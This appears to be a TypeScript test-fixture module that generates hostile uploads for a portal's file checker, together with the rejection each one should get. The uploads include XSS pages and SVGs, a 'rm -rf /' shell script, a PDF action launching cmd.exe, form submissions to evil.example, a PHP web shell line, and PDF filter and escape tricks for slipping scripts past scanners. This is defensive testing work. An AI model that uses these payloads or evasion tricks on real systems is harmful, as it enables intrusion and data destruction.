import { deflateSync } from 'node:zlib';
import type { FileProblem } from '../../portal/app/files/file-kinds.ts';
import {
  ascii85,
  hex,
  jpeg,
  latin,
  objectStream,
  pdf,
  png,
  runs,
  stream,
  ZIP_END,
} from './file-makers.ts';

/** Files that somebody could bring to do harm, and what each is refused for; null: it is harmless. */
export interface Hostile {
  what: string;
  name: string;
  bytes: Buffer;
  problem: FileProblem | null;
}

type Made = readonly [what: string, bytes: Buffer, problem: FileProblem | null, name?: string];

const SCRIPT = '<script>alert(1)</script>';

export function named(group: string, made: readonly Made[]): Hostile[] {
  return made.map(([what, bytes, problem, name = 'licence.pdf']) => ({
    ...{ what: `${group}: ${what}`, name, bytes, problem },
  }));
}

const OTHER_TYPES: Readonly<Record<string, string>> = {
  text: 'A licence, honestly.',
  'HTML page': `<!DOCTYPE html>${SCRIPT}`,
  'SVG with a script': `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`,
  'SVG that runs when it is loaded': '<svg onload="alert(1)"/>',
  'SVG behind a declaration': `<?xml version="1.0"?><svg><script href="https://evil.example"/></svg>`,
  'SVG with a page in it': `<svg><foreignObject><iframe srcdoc="${SCRIPT}"/></foreignObject></svg>`,
  XSLT: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>',
  'script of a browser': 'alert(1)',
  'script of a shell': '#!/bin/sh\nrm -rf /',
  'script of Windows': '@echo off\r\ndel *',
  'program of Windows': 'MZ\x90\0\x03',
  'program of Linux': '\x7fELF\x02\x01\x01',
  'program of macOS': '\xcf\xfa\xed\xfe\x07',
  'class of Java': '\xca\xfe\xba\xbe\0\0',
  'module of WebAssembly': '\0asm\x01\0\0\0',
  archive: 'PK\x03\x04\x14\0\0\0',
  'archive of 7-Zip': "7z\xbc\xaf'\x1c",
  'archive of RAR': 'Rar!\x1a\x07',
  gzip: '\x1f\x8b\x08\0',
  'document of Word': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
  'rich text': '{\\rtf1\\object',
  PostScript: '%!PS-Adobe-3.0\n(x) run',
  GIF: 'GIF89a\x01\0\x01\0\0\0\0;',
  'GIF that is a script': 'GIF89a/*\0\0*/=1;alert(1)',
  BMP: 'BM\x3a\0\0\0',
  TIFF: 'II*\0',
  WebP: 'RIFF\x1a\0\0\0WEBP',
  icon: '\0\0\x01\0\x01\0',
  video: '\0\0\0\x18ftypmp42',
  sound: 'ID3\x03\0',
  database: 'SQLite format 3\0',
  'link of Windows': 'L\0\0\0\x01\x14\x02\0',
  'page packed in a mail': `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
  'PDF after a byte': `x${pdf().toString('latin1')}`,
  'PDF after a page': `${SCRIPT}${pdf().toString('latin1')}`,
  'PNG after a space': ` ${png().toString('latin1')}`,
};

export function wrongTypes(): Hostile[] {
  const types = Object.entries(OTHER_TYPES);
  return [
    ...named('empty', [['nothing', Buffer.alloc(0), 'empty']]),
    ...named(
      'wrong type',
      types.map(([what, text]) => [what, latin(text), 'wrong-type']),
    ),
  ];
}

/** What makes a PDF do something, and how it is asked for. */
const DOINGS: readonly (readonly [object: string, name: string, problem: FileProblem])[] = [
  ['<</S/JavaScript/JS(app.alert\\(1\\))>>', 'JavaScript', 'has-script'],
  ['<</S/Launch/F(cmd.exe)>>', 'Launch', 'has-script'],
  ['<</S/SubmitForm/F(https://evil.example)>>', 'SubmitForm', 'has-script'],
  ['<</S/ImportData/F(x.fdf)>>', 'ImportData', 'has-script'],
  ['<</XFA(form)>>', 'XFA', 'has-script'],
  ['<</S/Rendition/OP 0>>', 'Rendition', 'has-script'],
  ['<</Subtype/RichMedia>>', 'RichMedia', 'has-script'],
  ['<</S/Movie/T(x)>>', 'Movie', 'has-script'],
  ['<</EmbeddedFiles<<>>>>', 'EmbeddedFiles', 'has-files'],
  ['<</Type/EmbeddedFile>>', 'EmbeddedFile', 'has-files'],
  ['<</S/GoToE/T<<>>>>', 'GoToE', 'has-files'],
];

/** A letter of a name may be written by its number. */
function escaped(name: string, pick: (index: number) => boolean, isUpper = false): string {
  const code = (letter: string) => {
    const digits = letter.charCodeAt(0).toString(16);
    return `#${isUpper ? digits.toUpperCase() : digits}`;
  };
  return [...name].map((letter, index) => (pick(index) ? code(letter) : letter)).join('');
}

type Disguise = (object: string, name: string) => Buffer;

const again = (object: string, name: string, to: string) => object.replace(`/${name}`, `/${to}`);

const DISGUISES: Readonly<Record<string, Disguise>> = {
  plain: (object) => pdf([object]),
  'one letter by number': (object, name) =>
    pdf([
      again(
        object,
        name,
        escaped(name, (index) => index === 1),
      ),
    ]),
  'all letters by number': (object, name) =>
    pdf([
      again(
        object,
        name,
        escaped(name, () => true, true),
      ),
    ]),
  'behind a comment': (object) => pdf([object.replace('<<', '<<%>> endobj\r')]),
  'in a deep list': (object) => pdf([`${'['.repeat(50)}${object}${']'.repeat(50)}`]),
  'in packed objects': (object) => pdf([objectStream(object, '/FlateDecode', deflateSync)]),
  'in packed objects, by number': (object, name) =>
    pdf([
      objectStream(
        again(
          object,
          name,
          escaped(name, () => true),
        ),
        '/FlateDecode',
        deflateSync,
      ),
    ]),
  'in objects packed twice': (object) =>
    pdf([
      objectStream(object, '[/ASCII85Decode/FlateDecode]', (data) => ascii85(deflateSync(data))),
    ]),
  'in objects as digits': (object) => pdf([objectStream(object, '/ASCIIHexDecode', hex)]),
  'in objects as runs': (object) => pdf([objectStream(object, '/RunLengthDecode', runs)]),
  'replaced by a later object': (object) => pdf([object, '<<>>'], { ids: [1, 2, 3, 3] }),
  'in packed objects, replaced': (object) =>
    pdf([objectStream(object, '/FlateDecode', deflateSync), '<<>>'], { ids: [1, 2, 3, 9] }),
  'in the middle of a stream': (object) => pdf([stream('', `x\n9 0 obj\n${object}\nendobj\n`)]),
};

export function doings(): Hostile[] {
  return DOINGS.flatMap(([object, name, problem]) =>
    named(
      name,
      Object.entries(DISGUISES).map(([what, make]) => [what, make(object, name), problem]),
    ),
  );
}

const ACTION = '<</S/JavaScript/JS(x)>>';

/** What the reader of a PDF and our own could take for different things. */
export function hidden(): Hostile[] {
  const packed = deflateSync(latin(`9 0 ${ACTION}`));
  const dict = '/N 1/First 4/Filter/FlateDecode';
  const twice = ACTION.replace('/JS', '/S/URI/JS');
  return named('hidden', [
    ['objects in a stream of no type', pdf([stream(dict, packed)]), 'damaged'],
    ['type told later', pdf([stream(`/Type 4 0 R${dict}`, packed), '/ObjStm']), 'damaged'],
    ['type told twice', pdf([stream(`/Type/ObjStm/Type/X${dict}`, packed)]), 'damaged'],
    ['objects that are predicted', pdf([predicted(dict, packed)]), 'damaged'],
    [
      'coding that we do not know',
      pdf([objectStream(ACTION, '/DCTDecode', deflateSync)]),
      'damaged',
    ],
    ['key told twice', pdf([objectStream(twice, '/FlateDecode', deflateSync)]), 'has-script'],
    ['length that is a lie', pdf([stream('', 'x').replace('1>>', '999>>')]), null],
    ['locked', pdf(['<</Filter/Standard/V 1>>'], { trailer: '/Encrypt 3 0 R' }), 'locked'],
    ['locked by number', pdf(['<<>>'], { trailer: '/#45ncrypt 3 0 R' }), 'locked'],
    ['locked, with a lock that is not there', pdf([], { trailer: '/Encrypt 9 0 R' }), 'locked'],
    ['script in the trailer', pdf([], { trailer: `/X${ACTION}` }), 'has-script'],
  ]);
}

function predicted(dict: string, packed: Buffer): string {
  return stream(`/Type/ObjStm${dict}/DecodeParms<</Predictor 12/Columns 4>>`, packed);
}

export function polyglots(): Hostile[] {
  const page = `<html>${SCRIPT}</html>`;
  const behind = (one: Buffer, text: string) => Buffer.concat([one, latin(text)]);
  return named('two at once', [
    ['PDF and page', behind(pdf(), page), 'two-files'],
    ['PDF and archive', Buffer.concat([pdf(), ZIP_END]), 'two-files'],
    ['PDF with an archive inside', pdf([stream('', ZIP_END)]), 'two-files'],
    ['PDF and PDF, the first with a script', Buffer.concat([pdf([ACTION]), pdf()]), 'has-script'],
    ['PDF and PDF, the second with a script', Buffer.concat([pdf(), pdf([ACTION])]), 'has-script'],
    ['PDF with a page as a comment', latin(`%PDF-1.7\n%${page}\n${tail()}`), null],
    ['PDF with a page in a stream', pdf([stream('', page)]), null],
    ['PNG and page', behind(png(), page), 'two-files', 'x.png'],
    ['PNG and archive', Buffer.concat([png(), ZIP_END]), 'two-files', 'x.png'],
    ['PNG and PDF', Buffer.concat([png(), pdf()]), 'two-files', 'x.png'],
    ['PNG with a page as a note', png({ text: page }), null, 'x.html'],
    ['PNG with a program as a note', png({ text: '<?php system($_GET[0]);' }), null, 'x.php'],
    ['JPEG and page', behind(jpeg(), page), null, 'x.html'],
    ['JPEG and PDF', Buffer.concat([jpeg(), pdf([ACTION])]), null, 'x.pdf'],
    ['JPEG and archive', Buffer.concat([jpeg(), ZIP_END]), 'two-files', 'x.jar'],
    ['JPEG with a page as a note', jpeg({ text: page }), null, 'x.htm'],
    ['JPEG with an archive as a note', jpeg({ text: ZIP_END.toString('latin1') }), 'two-files'],
  ]);
}

function tail(): string {
  return pdf().toString('latin1').split('\n').slice(2).join('\n');
}
